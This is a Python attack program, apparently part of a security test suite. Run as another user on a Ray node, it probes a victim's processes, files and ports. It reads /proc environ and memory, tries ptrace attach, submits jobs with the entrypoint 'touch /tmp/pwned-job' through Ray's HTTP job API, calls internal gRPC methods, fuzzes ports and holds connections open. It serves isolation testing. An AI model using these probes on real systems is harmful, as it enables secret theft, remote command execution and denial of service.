"""Attack program: what a stranger, another user of a node, can do to the processes, files and ports of a victim's payload.

The test sends the text of this module to the node and runs it as the stranger. `python -c TEXT try VICTIM PORTS PATHS ROOTS`
attacks and prints what succeeded, as JSON. PORTS are the victim's listening ports, PATHS are paths that the stranger has learnt,
and ROOTS are directories to search; all three are JSON. `python -c TEXT hold HOST PORT COUNT` keeps silent connections open until
its input ends.
"""

import ctypes
import json
import os
import pwd
import re
import select
import socket
import stat
import sys
import urllib.error
import urllib.request
from collections import Counter
from pathlib import Path
from typing import Any

PATHS = (
    "/",
    "/metrics",
    "/api/version",
    "/api/jobs/",
    "/api/job_agent/jobs/",
    "/api/cluster_status",
    "/api/v0/nodes",
    "/api/v0/logs?node_id=x",
    "/api/v0/logs/file?node_ip=127.0.0.1&filename=raylet.out",
    "/api/v0/actors",
    "/api/v0/tasks",
    "/nodes?view=summary",
    "/logical/actors",
    "/worker/traceback?pid=1",
    "/api/packages/gcs/x.zip",
    "/api/serve/applications/",
    "/api/profile_events",
    "/api/local_raylet_healthz",
    "/api/gcs_healthz",
    "/api/authentication_mode",
    "/logs/",
)
POSTS = {
    "/api/jobs/": {"entrypoint": "touch /tmp/pwned-job"},
    "/api/job_agent/jobs/": {"entrypoint": "touch /tmp/pwned-job"},
    "/get_or_create_runtime_env": {},
}
REFUSALS = (401, 403, 404, 405)
"""HTTP codes that count as a refusal."""
METHODS = (
    "/ray.rpc.ObjectManagerService/FreeObjects",
    "/ray.rpc.ObjectManagerService/Pull",
    "/ray.rpc.ObjectManagerService/Push",
    "/ray.rpc.syncer.RaySyncer/StartSync",
)
"""gRPC methods that Ray's daemons call among themselves in C++ only; `methods` finds those that Ray's Python package knows."""
NODE_ID = ("node_id", "0" * 56)
"""gRPC metadata of each call: a raylet of Ray 2.60 crashes on `StartSync` without it, before it checks the token."""
REFUSED = ("UNAUTHENTICATED", "UNIMPLEMENTED", "UNAVAILABLE")
"""gRPC codes that count as a refusal."""
SECONDS = 5.0
"""Timeout of each network operation."""

Heard = tuple[dict[str, Any], "Counter[str]"]
"""The answers of a port that were no refusals, and the number of refusals by code."""


def files(uid: int, roots: list[str]) -> list[str]:
    """The victim's files and directories below `roots` that the stranger can read, write or execute."""
    found = []
    for root in roots:
        for directory, names, others in os.walk(root):
            for name in [*names, *others]:
                path = os.path.join(directory, name)
                try:
                    info = os.lstat(path)
                except OSError:
                    continue
                if info.st_uid == uid and not stat.S_ISLNK(info.st_mode) and any(os.access(path, mode) for mode in (4, 2, 1)):
                    found.append(path)
    return found


def opened(paths: list[str]) -> list[str]:
    """Those of `paths` that the stranger can read, write, list or connect to."""
    found = []
    for path in paths:
        for attempt in (
            lambda p: os.close(os.open(p, os.O_RDONLY)),
            lambda p: os.close(os.open(p, os.O_WRONLY)),
            os.listdir,
            plug,
        ):
            try:
                attempt(path)
            except OSError:
                continue
            found.append(path)
            break
    return found


def plug(path: str) -> None:
    with socket.socket(socket.AF_UNIX) as sock:
        sock.settimeout(SECONDS)
        sock.connect(path)


def processes(uid: int) -> tuple[list[str], list[str]]:
    """The successful attacks on the victim's processes, and the command lines of these processes, which anybody can read."""
    done, arguments = [], []
    libc = ctypes.CDLL(None, use_errno=True)
    for name in os.listdir("/proc"):
        if not name.isdecimal():
            continue
        path, pid = Path("/proc", name), int(name)
        try:
            if path.stat().st_uid != uid:
                continue
            words = (path / "cmdline").read_bytes().replace(b"\0", b" ").decode("utf-8", "replace")
        except OSError:
            continue
        if not words:
            continue  # A kernel thread, which has no command line.
        arguments.append(words)
        attempts: dict[str, Any] = {
            "environ": lambda path=path: (path / "environ").read_bytes(),
            "mem": lambda path=path: open(path / "mem", "rb").close(),
            "maps": lambda path=path: (path / "maps").read_bytes(),
            "fd": lambda path=path: os.listdir(path / "fd"),
            "cwd": lambda path=path: os.readlink(path / "cwd"),
            "signal": lambda pid=pid: os.kill(pid, 0),
            "ptrace": lambda pid=pid: trace(libc, pid),
        }
        for what, attempt in attempts.items():
            try:
                attempt()
            except OSError:
                continue
            done.append("%s of %s" % (what, arguments[-1][:80]))
    return done, arguments


def trace(libc: Any, pid: int) -> None:
    if libc.ptrace(16, pid, 0, 0) == -1:  # PTRACE_ATTACH of ptrace(2).
        raise OSError(ctypes.get_errno(), "ptrace")
    libc.ptrace(17, pid, 0, 0)


def http(host: str, port: int) -> Heard | None:
    """The answers of a port to HTTP requests without a token and with a wrong one, by path; None if the port speaks no HTTP."""
    try:
        with socket.create_connection((host, port), SECONDS) as sock:
            sock.settimeout(SECONDS)
            sock.sendall(b"GET / HTTP/1.1\r\nHost: x\r\nConnection: close\r\n\r\n")
            if not sock.recv(16).startswith(b"HTTP/1"):
                return None
    except OSError:
        return None
    opener = urllib.request.build_opener(urllib.request.ProxyHandler({}))
    answers: dict[str, Any] = {}
    refusals: Counter[str] = Counter()
    for headers in ({}, {"Authorization": "Bearer " + "0" * 64}):
        requests = [(path, None) for path in PATHS] + [(path, json.dumps(body).encode()) for path, body in POSTS.items()]
        for path, body in requests:
            where = ("POST " if body else "GET ") + path + (" with a wrong token" if headers else "")
            request = urllib.request.Request("http://%s:%d%s" % (host, port, path), body, headers)
            if body:
                request.add_header("Content-Type", "application/json")
            try:
                with opener.open(request, timeout=SECONDS) as answer:
                    answers[where] = answer.read().decode("utf-8", "replace")
            except urllib.error.HTTPError as error:
                if error.code in REFUSALS:
                    refusals[str(error.code)] += 1
                else:
                    answers[where] = "%d %s" % (error.code, error.read().decode("utf-8", "replace"))
            except OSError:
                continue
    return answers, refusals


def methods() -> list[str]:
    """The names of the gRPC methods of all services of Ray."""
    import ray

    found = set(METHODS)
    for path in Path(ray.__file__).parent.glob("core/generated/*_pb2_grpc.py"):
        found.update(re.findall(r"'(/ray\.[A-Za-z0-9_.]+/[A-Za-z0-9_]+)'", path.read_text()))
    return sorted(found)


def grpc_calls(host: str, port: int, names: list[str]) -> Heard:
    """The answers of a port to empty gRPC calls without a token and with a wrong one: names of methods, by answer."""
    import grpc

    answers: dict[str, Any] = {}
    refusals: Counter[str] = Counter()
    with grpc.insecure_channel("%s:%d" % (host, port), options=[("grpc.enable_http_proxy", 0)]) as channel:
        try:
            grpc.channel_ready_future(channel).result(SECONDS)
        except grpc.FutureTimeoutError:
            return answers, refusals
        for metadata in ((NODE_ID,), (NODE_ID, ("authorization", "Bearer " + "0" * 64))):
            plain = {"request_serializer": lambda text: text, "response_deserializer": lambda text: text}
            calls = [(name, channel.unary_unary(name, **plain).future(b"", SECONDS, metadata)) for name in names]
            for name, call in calls:
                try:
                    code = "OK %r" % call.result()[:300]
                except grpc.RpcError:
                    code = call.code().name
                if code in REFUSED:
                    refusals[code] += 1
                else:
                    answers.setdefault(code, []).append(name)
    return answers, refusals


def noise(host: str, port: int) -> None:
    """Send garbage and forged requests to a port. The test sees damage in how the victim's payload goes on."""
    forged = (
        json.dumps({"op": "stop"}).encode() + b"\n" + json.dumps({"op": "run", "request_id": "x", "run_dir": "/tmp/x"}).encode()
    )
    proof = b'{"challenge": "' + b"0" * 32 + b'"}\n{"proof": "' + b"0" * 64 + b'"}\n'
    for text in (b"\0" * 4096, proof, proof + b"0" * 64 + b" " + forged + b"\n", forged + b"\n", os.urandom(65536), b"[" * 9999):
        try:
            with socket.create_connection((host, port), SECONDS) as sock:
                sock.settimeout(0.1)
                sock.sendall(text)
                sock.recv(100)
        except OSError:
            continue


def hold(host: str, port: int, count: int) -> None:
    """Keep `count` silent connections to a port open, reopen closed ones, and print their number, until the input ends."""
    held: list[socket.socket] = []
    while True:
        for sock in [sock for sock in held if gone(sock)]:
            held.remove(sock)
            sock.close()
        try:
            while len(held) < count:
                held.append(socket.create_connection((host, port), SECONDS))
                held[-1].setblocking(False)
        except OSError:
            pass
        print(len(held), flush=True)
        if select.select([sys.stdin], [], [], 0.2)[0]:
            return


def gone(sock: socket.socket) -> bool:
    try:
        return sock.recv(4096) == b""
    except BlockingIOError:
        return False
    except OSError:
        return True


def main() -> None:
    if sys.argv[1] == "hold":
        return hold(sys.argv[2], int(sys.argv[3]), int(sys.argv[4]))
    victim, (ports, known, roots) = sys.argv[2], map(json.loads, sys.argv[3:])
    uid = pwd.getpwnam(victim).pw_uid
    done, arguments = processes(uid)
    names = methods() if ports else []
    answers, refusals = {}, {}
    for host, port in ports:
        address = "%s:%d" % (host, port)
        answers[address], refusals[address] = http(host, port) or grpc_calls(host, port, names)
        noise(host, port)
    heard = {"answers": answers, "refusals": refusals}
    print(json.dumps({"files": files(uid, roots), "opened": opened(known), "processes": done, "arguments": arguments, **heard}))


if __name__ == "__main__":
    main()
